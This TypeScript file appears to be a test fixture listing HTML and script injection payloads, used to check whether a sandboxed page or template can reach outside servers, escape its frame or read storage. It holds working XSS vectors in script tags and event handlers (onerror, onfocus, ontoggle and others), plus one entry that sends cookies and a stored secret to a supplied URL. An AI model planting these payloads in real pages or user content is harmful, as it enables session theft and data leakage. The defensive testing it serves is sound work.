// Pages that want to send, open, read or reach something: what a hostile template, title or value could hold.
import { markupPayloads } from './markupPayloads.ts'
import type { Goal, PagePayload } from './pagePayload.ts'

const script = (code: (goal: Goal) => string) => (goal: Goal) => `<script>${code(goal)}</script>`

const scripts: PagePayload[] = [
  { name: 'fetch', html: script(({ url }) => `fetch('${url}/fetch', { mode: 'no-cors' })`) },
  {
    name: 'fetch of a module',
    html: ({ url }) => `<script type=module>fetch('${url}/module', { mode: 'no-cors' })</script>`,
  },
  {
    name: 'XMLHttpRequest',
    html: script(({ url }) => `const x = new XMLHttpRequest(); x.open('POST', '${url}/xhr'); x.send('a')`),
  },
  { name: 'WebSocket', html: script(({ host }) => `new WebSocket('ws://${host}/socket')`) },
  { name: 'EventSource', html: script(({ url }) => `new EventSource('${url}/events')`) },
  { name: 'sendBeacon', html: script(({ url }) => `navigator.sendBeacon('${url}/beacon', 'a')`) },
  {
    name: 'WebRTC',
    html: script(
      ({ host }) => `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] })
        peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
    ),
  },
  { name: 'window.open', html: ({ url }) => `<button data-click onclick="window.open('${url}/opened')">Go</button>` },
  { name: 'location', html: script(({ url }) => `location.href = '${url}/location'`) },
  { name: 'location of the top window', html: script(({ url }) => `top.location.href = '${url}/top'`) },
  { name: 'new Image', html: script(({ url }) => `new Image().src = '${url}/image'`) },
  {
    name: 'worker',
    html: script(
      ({ url }) => `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker', { mode: 'no-cors' })"])))`,
    ),
  },
  { name: 'script of another server', html: ({ url }) => `<script src="${url}/script.js"></script>` },
  { name: 'import', html: ({ url }) => `<script type=module>import('${url}/import.js')</script>` },
  {
    name: 'import map',
    html: ({ url }) =>
      `<script type=importmap>{"imports": {"far": "${url}/mapped.js"}}</script><script type=module>import 'far'</script>`,
  },
  {
    name: 'speculation rules',
    html: ({ url }) =>
      `<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["${url}/speculated"], "eagerness": "immediate"}]}</script>`,
  },
]

const aroundThePage: PagePayload[] = [
  {
    name: 'message to the parent',
    only: 'frame',
    html: script(({ word }) => `parent.postMessage('${word}', '*')`),
  },
  {
    name: 'message to the top window',
    only: 'frame',
    html: script(({ word }) => `top.postMessage('${word}', '*')`),
  },
  {
    name: 'message to the opener',
    only: 'window',
    html: script(({ word }) => `opener?.postMessage('${word}', '*'); parent.opener?.postMessage('${word}', '*')`),
  },
  {
    name: 'markup of the parent',
    html: script(({ word }) => `(opener ?? parent).heard?.push('${word}')`),
  },
  {
    name: 'cookies and storage',
    html: script(
      ({ url }) => `new Image().src = '${url}/' + encodeURIComponent(document.cookie + localStorage.getItem('secret'))`,
    ),
  },
  {
    name: 'channel of the origin',
    html: script(({ word }) => `new BroadcastChannel('all').postMessage('${word}')`),
  },
  { name: 'the server of the page', html: script(({ word }) => `fetch('/reached/${word}', { method: 'POST' })`) },
  { name: 'the server of the page by a picture', html: ({ word }) => `<img src="/reached/${word}">` },
]

const handlers: PagePayload[] = [
  { name: 'onerror', html: ({ url }) => `<img src=x: onerror="fetch('${url}/onerror', { mode: 'no-cors' })">` },
  {
    name: 'ontoggle',
    html: ({ url }) =>
      `<details open ontoggle="fetch('${url}/ontoggle', { mode: 'no-cors' })"><summary>x</summary></details>`,
  },
  { name: 'onfocus', html: ({ url }) => `<input autofocus onfocus="fetch('${url}/onfocus', { mode: 'no-cors' })">` },
  {
    name: 'onclick',
    html: ({ url }) => `<button data-click onclick="fetch('${url}/onclick', { mode: 'no-cors' })">Go</button>`,
  },
  {
    name: 'onanimationstart',
    html: ({ url }) =>
      `<style>@keyframes a {}</style><p style="animation: a" onanimationstart="fetch('${url}/onanimation', { mode: 'no-cors' })">x`,
  },
]

export const pagePayloads: PagePayload[] = [...scripts, ...aroundThePage, ...handlers, ...markupPayloads]
